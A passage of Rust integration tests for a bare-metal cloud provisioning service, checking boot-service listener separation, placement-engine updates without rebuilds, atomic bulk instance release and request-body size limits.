            &image(json!({"cmdline": "console=ttyS0 x=a#b", "kernel_url": "http://img.local/v@1/vmlinuz"})),
        )
        .expect(201);
    }
}

/// `boot_listen`: the boot service (whose iPXE scripts carry each node's
/// one-time token) on a listener of its own, on the provisioning network;
/// the API's listener, which tenants' nodes reach for their agents, does
/// not serve it. The agent API is on both. Bodies of the agent API are
/// bounded like the API's, with the API's JSON error.
#[test]
fn the_boot_service_can_listen_apart_from_the_api() {
    for b in TestBackend::ALL {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let Some(s) = TestServer::start_with(b, |c| {
            c.boot_listen = Some(format!("127.0.0.1:{port}"));
            c.max_body_bytes = 64 * 1024;
        }) else {
            continue;
        };
        let b = b.as_str();
        let api = s.anonymous();
        let boot = common::Client { base: format!("http://127.0.0.1:{port}"), token: None };
        let mac = "/boot/ipxe?mac=52:54:00:00:00:01";
        // The API's listener: no such route.
        let r = api.get(mac).expect(404);
        assert_eq!(r.body["error"]["code"], "not_found", "[{b}] {}", r.text);
        // The boot service's: the script (an unknown MAC), a bad request
        // naming the field; and nothing of the API.
        let r = boot.get(mac).expect(404);
        assert!(r.text.starts_with("#!ipxe"), "[{b}] {}", r.text);
        let r = boot.get("/boot/ipxe").expect(400);
        assert_eq!(r.error().1.as_deref(), Some("mac"), "[{b}] {}", r.text);
        boot.get("/v1/tenants").expect(404);
        s.admin().get("/v1/tenants").expect(200);
        // The agent API on both.
        for c in [&api, &boot] {
            let r = c.post("/agent/v1/heartbeat", &json!({}));
            assert_eq!(r.error().1.as_deref(), Some("health"), "[{b}] served: {}", r.text);
            // A body over the limit, refused by its length before it is read.
            use std::io::{Read, Write};
            let mut conn =
                std::net::TcpStream::connect(c.base.trim_start_matches("http://")).unwrap();
            let req = format!(
                "POST /agent/v1/register HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n",
                64 * 1024 + 1
            );
            conn.write_all(req.as_bytes()).unwrap();
            let mut answer = String::new();
            let _ = conn.read_to_string(&mut answer);
            assert!(answer.starts_with("HTTP/1.1 413"), "[{b}] {answer}");
            assert!(answer.contains("\"payload_too_large\""), "[{b}] {answer}");
        }
    }
}

/// The placement engine follows the lifecycle controller's own moves of a
/// node in and out of the schedulable pool (here: inspected, then
/// available) without rebuilding itself from the store: a tenant's next
/// create plans at once. (A rebuild reads every node and allocation: at
/// 10,000 nodes a create call would pay for one after every node that
/// finished a sanitization.) A tenant's node provisioning and handed over
/// moves nothing placement sees (its allocation holds all of it): the
/// placement generation stays, so no replica rebuilds for it. Another
/// replica (its own controller idle) replays every one of these writes from
/// the placement log, and never rebuilds either.
#[test]
fn placement_follows_the_controllers_moves_without_a_reload() {
    let f = fleet();
    for (i, b) in TestBackend::ALL.into_iter().enumerate() {
        let Some(s) = TestServer::start_with(b, |c| {
            tweak(c, 120);
            c.sanitize_before_first_use = false;
        }) else {
            continue;
        };
        let b = b.as_str();
        // A second replica, its controller idle.
        let replica = s.replica_with(|c| c.lifecycle_interval_ms = 0);
        let reloads = || engine_reloads(&s);
        let before = reloads();
        let replica_before = engine_reloads(&replica);
        // Both replicas' view, read at every step: the store's, the
        // replica's caught up from the log.
        let replica_agrees = |what: &str| {
            capacity_is_the_stores(&[&s, &replica], &format!("[{b}] {what}"));
            assert_eq!(
                engine_reloads(&replica),
                replica_before,
                "[{b}] {what}: the replica replayed"
            );
        };
        let tenant = catalog(&s, true);
        enroll_simulated(&s, &f, i);
        wait_node(&s, "bm-1", "available", None);
        // The controller tells the engine right after its commit.
        std::thread::sleep(Duration::from_millis(200));
        let generation =
            || s.store.read(neocloud_store::allocations::placement_generation).unwrap();
        let available = generation();
        let created = create(&tenant, "job");
        assert_eq!(created["node_id"], node(&s, "bm-1")["id"], "[{b}] {created}");
        assert_eq!(reloads(), before, "[{b}] no rebuild of the placement engine");
        replica_agrees("inspected, then placed on");
        wait_node(&s, "bm-1", "provisioning", Some("await_agent"));
        let mac = neocloud_server::simbmc::mac(i);
        let _agent = register(&s, &mac, TENANT_KERNEL, 8);
        wait_instance(&tenant, created["id"].as_str().unwrap(), "ready");
        assert_eq!(lifecycle(&s, "bm-1")["state"], "active", "[{b}]");
        assert_eq!(
            generation(),
            available + 1,
            "[{b}] the create's own write; provisioning and the handover move nothing placement sees"
        );
        let cap = s.admin().get("/v1/capacity").expect(200).body;
        let total = &cap["models"][0]["total"];
        assert_eq!(
            (
                &total["nodes"],
                &total["unavailable_nodes"],
                &total["free_nodes"],
                &total["free_gpus"]
            ),
            (&json!(1), &json!(0), &json!(0), &json!(0)),
            "[{b}] the tenant's node is in service and full: {cap}"
        );
        assert_eq!(reloads(), before, "[{b}] still no rebuild");
        replica_agrees("handed over");

        // Released and sanitized: the allocation freed and the node back
        // in the pool are told to the engine with the node's move; the next
        // create plans on them without a rebuild.
        let id = created["id"].as_str().unwrap();
        release(&tenant, id).expect(202);
        wait_node(&s, "bm-1", "releasing", Some("await_agent"));
        let agent = register(&s, &mac, SANITIZER_KERNEL, 8);
        let mut reported = std::collections::BTreeSet::new();
        wait_for("bm-1 sanitized", Duration::from_secs(60), || {
            let l = lifecycle(&s, "bm-1");
            assert_ne!(l["state"], "failed", "[{b}] {l}");
            if l["state"] == "available" {
                return Some(());
            }
            if l["state"] == "sanitizing" {
                let hb = heartbeat(&agent).expect(200).body;
                for st in hb["steps"].as_array().into_iter().flatten() {
                    let sid = st["id"].as_str().unwrap().to_string();
                    if reported.insert(sid.clone()) {
                        report(&agent, &sid, true).expect(200);
                    }
                }
            }
            None
        });
        assert_eq!(wait_instance(&tenant, id, "released")["state"], "released", "[{b}]");
        std::thread::sleep(Duration::from_millis(200));
        let again = create(&tenant, "job-2");
        assert_eq!(again["node_id"], node(&s, "bm-1")["id"], "[{b}] {again}");
        assert_eq!(reloads(), before, "[{b}] the freed allocation told, not rebuilt");
        replica_agrees("sanitized and placed on again");
    }
}

#[test]
fn several_instances_are_released_in_one_call_or_none_are() {
    const RELEASES: &str = "/v1/tenants/acme/projects/train/instance-releases";
    for b in TestBackend::ALL {
        let Some(s) = server_without_controller(b) else { continue };
        let b = b.as_str();
        let a = s.admin();
        let tenant = catalog(&s, true);
        // Nodes without a BMC are available at once.
        for n in ["m-1", "m-2", "m-3"] {
            a.post(
                "/v1/nodes",
                &json!({"name": n, "site": "s", "pod": "p", "su": "su1", "rack": "r1",
                        "gpu_model": "h100-80gb", "gpus": 8}),
            )
            .expect(201);
        }
        let items = tenant
            .post(
                INSTANCES,
                &json!({"name": "job", "count": 3, "instance_type": "bm-h100", "image": "ubuntu"}),
            )
            .expect(201)
            .body["items"]
            .as_array()
            .unwrap()
            .clone();
        let id = |k: usize| items[k]["id"].as_str().unwrap().to_string();
        let generations = || -> Vec<Value> {
            (0..3).map(|k| instance(&tenant, &id(k))["generation"].clone()).collect()
        };
        let before = generations();

        // Refused whole, naming what is wrong; nothing recorded.
        let many: Vec<String> = (0..1001).map(|k| format!("i-{k}")).collect();
        for (what, body, status, field) in [
            ("none", json!({"instances": []}), 422, Some("instances")),
            ("over 1,000", json!({"instances": many}), 422, Some("instances")),
            (
                "twice by name",
                json!({"instances": ["job-0", "job-1", "job-0"]}),
                422,
                Some("instances[2]"),
            ),
            (
                "by name and by id",
                json!({"instances": ["job-1", id(1)]}),
                422,
                Some("instances[1]"),
            ),
            (
                "not a name",
                json!({"instances": ["job-0", "Not A Name!"]}),
                400,
                Some("instances[1]"),
            ),
            ("another field", json!({"instances": ["job-0"], "force": true}), 400, None),
        ] {
            let r = tenant.post(RELEASES, &body);
            assert_eq!(r.status, status, "[{b}] {what}: {}", r.text);
            if let Some(field) = field {
                assert_eq!(r.error().1.as_deref(), Some(field), "[{b}] {what}: {}", r.text);
            }
            assert_eq!(generations(), before, "[{b}] {what}: something was recorded");
        }
        let r = tenant.post(RELEASES, &json!({"instances": ["job-0", "nope"]})).expect(404);
        assert!(r.text.contains("nope"), "[{b}] the answer names it: {}", r.text);
        assert_eq!(generations(), before, "[{b}] one unknown: none recorded");

        // Two of the three, by name and by id: recorded, answered in the
        // order named; the third is left alone.
        let r = tenant.post(RELEASES, &json!({"instances": [id(1), "job-0"]})).expect(202).body;
        let got: Vec<&str> =
            r["items"].as_array().unwrap().iter().map(|i| i["name"].as_str().unwrap()).collect();
        assert_eq!(got, ["job-1", "job-0"], "[{b}] {r}");
        let after = generations();
        assert_ne!(after[0], before[0], "[{b}]");
        assert_ne!(after[1], before[1], "[{b}]");
        assert_eq!(after[2], before[2], "[{b}] job-2 was not named");
        // Asked again: nothing changes.
        tenant.post(RELEASES, &json!({"instances": ["job-0", "job-1"]})).expect(202);
        assert_eq!(generations(), after, "[{b}] a second ask recorded again");

        // The controller releases the two (nodes without a BMC: at once);
        // the third stays the tenant's (its provisioning, without a BMC,
        // fails: released only when asked).
        let (ctl, secrets) = controller(&s);
        ctl.run_once(&s.store, &secrets).unwrap();
        for k in [0, 1] {
            assert_eq!(instance(&tenant, &id(k))["state"], "released", "[{b}] job-{k}");
        }
        assert_ne!(instance(&tenant, &id(2))["state"], "released", "[{b}] job-2");
        assert_eq!(committed(&s, "nodes"), 1, "[{b}]");
        // Released ones named by id again: answered as they are.
        let r = tenant.post(RELEASES, &json!({"instances": [id(0)]})).expect(202).body;
        assert_eq!(r["items"][0]["state"], "released", "[{b}] {r}");
    }
}
